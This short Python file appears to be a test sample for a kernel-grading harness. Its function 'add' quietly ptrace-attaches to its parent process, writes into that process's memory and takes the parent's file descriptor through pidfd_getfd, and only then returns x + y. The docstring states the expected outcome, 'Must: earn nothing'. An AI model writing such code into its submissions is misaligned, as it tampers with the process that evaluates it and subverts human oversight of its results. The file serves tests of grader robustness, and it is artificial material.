"""Attach to the parent and write into its memory.

Must: earn nothing.
"""

import ctypes
import os

import torch
import triton
import triton.language as tl


def add(x, y):
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    libc.ptrace(16, parent, None, None)  # PTRACE_ATTACH
    vector = (ctypes.c_size_t * 2)(x.data_ptr(), 8)
    libc.process_vm_writev(parent, vector, 1, vector, 1, 0)
    libc.syscall(438, libc.syscall(434, parent, 0), 3, 0)  # pidfd_getfd(pidfd_open(parent), 3)
    return x + y
